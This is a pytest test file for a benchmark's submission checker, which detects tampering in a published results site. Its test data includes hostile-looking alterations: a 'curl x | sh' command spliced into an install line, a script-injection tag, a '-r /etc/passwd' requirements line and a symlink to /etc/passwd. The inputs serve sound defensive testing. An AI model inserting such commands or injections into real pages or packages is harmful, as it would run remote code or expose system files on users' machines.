import importlib
import re
import shutil
from collections.abc import Iterator
from pathlib import Path
from types import ModuleType

import pytest

from vibench.provenance import PROTOCOL
from vibench.report.citation import Citation
from vibench.report.site import publish
from vibench.results.read import read_table
from vibench.results.sqlite import FILE

SCRIPTS = Path(__file__).parents[3] / "results" / "scripts"


@pytest.fixture(scope="module")
def script() -> Iterator[ModuleType]:
    with pytest.MonkeyPatch.context() as patch:
        patch.syspath_prepend(str(SCRIPTS))
        yield importlib.import_module("check_submission")


@pytest.fixture(scope="module")
def site(quick_run: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("submitted") / "site"
    publish([quick_run / FILE] * 2, folder, Citation("quick"), {quick_run / FILE: "a <note>"}, figures=False)
    return folder


@pytest.fixture
def copied(site: Path, tmp_path: Path) -> Path:
    return Path(shutil.copytree(site, tmp_path / "site"))


@pytest.fixture(scope="module")
def again(script: ModuleType, site: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    return script.published_again(site, tmp_path_factory.mktemp("again"))


@pytest.mark.long
def test_every_alteration_of_a_good_site_is_named(script: ModuleType, site: Path, again: Path, copied: Path) -> None:
    assert list(script.differences(site, again)) == []
    assert list(script.of_run(again / "runs" / "quick" / FILE)) == []
    for name, alter in ALTERED.items():
        text = (copied / name).read_bytes().decode("latin-1")
        assert alter(text) != text, name
        (copied / name).write_bytes(alter(text).encode("latin-1"))
    expected = {f"{name} is not what the results files give" for name in ALTERED}
    digests = "vibench-site.json has other digests than the files"
    assert {*script.differences(copied, again)} == expected | {digests}
    shutil.copytree(site, copied, dirs_exist_ok=True)
    (copied / "publication.json").unlink()
    (copied / "extra.js").touch()
    (copied / "index.html").unlink()
    (copied / "index.html").symlink_to("/etc/passwd")
    assert {line.partition(" ")[0] for line in script.differences(copied, again)} == {
        "publication.json", "extra.js", "index.html", "vibench-site.json",
    }  # fmt: skip


OF_RUN = "runs/quick/"

ALTERED = {
    f"{OF_RUN}tables/thresholds.csv": lambda text: re.sub(r"\d\.\d", "0.1", text),
    f"{OF_RUN}tables/cells.csv": lambda text: text.replace(",ok,", ",failed,"),
    f"{OF_RUN}tables/disagreements.csv": lambda text: "".join(f"{line.partition(',')[2]}\n" for line in text.split()),
    f"{OF_RUN}requirements.txt": lambda text: f"{text}-r /etc/passwd\n",
    f"{OF_RUN}provenance.json": lambda text: re.sub(r'"machines": \[\n *".', '"machines": ["X', text),
    f"{OF_RUN}index.html": lambda text: text.replace("pip install", "curl x | sh; pip install", 1),
    f"{OF_RUN}report.html": lambda text: re.sub(r"0\.\d", "0.1", text, count=9),
    f"{OF_RUN}{FILE}": lambda text: text.replace("decorrelated", "uncorrelated", 1),
    "leaderboard.html": lambda text: re.sub(r"\d\.\d", "9.9", text, count=1),
    "index.html": lambda text: text.replace("</body>", "<script>alert(1)</script></body>"),
    "comparison.html": lambda text: f"{text} ",
    "CITATION.cff": lambda text: text.replace("quick", "other", 1),
    "citation.bib": lambda text: text.replace("quick", "other", 1),
}  # fmt: skip


def test_what_may_differ_is_not_named_and_other_protocols_are(script: ModuleType, quick_run: Path) -> None:
    pages, files = (script.MAY_DIFFER[name] for name in ("report.html", FILE))
    assert re.sub(pages, b"", b'<img src="data:image/webp;base64,aB+/=" width="9" height="8" a') == b'<img src="" a'
    header = bytes(range(1, 120))
    assert re.sub(files, b"", header) == header[:24] + header[28:40] + header[44:92] + header[100:]
    cells, queries = (read_table(quick_run / FILE, name) for name in ("cells", "queries"))
    earlier = cells.assign(versions=cells["versions"].str.replace(f'"protocol": "{PROTOCOL}"', '"protocol": "0"'))
    assert any(f"protocol 0, expected {PROTOCOL}" in line for line in script.of_cells(earlier))
    assert any("never timed" in line for line in script.of_cells(cells.assign(timing_rounds=0)))
    kinds = cells.set_index("cell")["enrichment_kind"]
    assert any("dual_residual" in line for line in script.of_queries(queries.assign(dual_residual=1.0), kinds))
    assert list(script.of_queries(queries, kinds)) == []


def test_what_is_not_published_is_a_line(script: ModuleType, copied: Path, capsys: pytest.CaptureFixture[str]) -> None:
    for name, content, said in (
        (f"{OF_RUN}{FILE}", "nothing", "is not a results file of vibench"),
        ("publication.json", '{"vibench": "9"}', "published by vibench 9, expected"),
        ("publication.json", "[]", "TypeError: list indices"), ("publication.json", "{", "JSONDecodeError"),
    ):  # fmt: skip
        (copied / name).write_text(content)
        with pytest.raises(SystemExit, match="1"):
            script.main(str(copied))
        (line,) = capsys.readouterr().out.splitlines()
        assert said in line
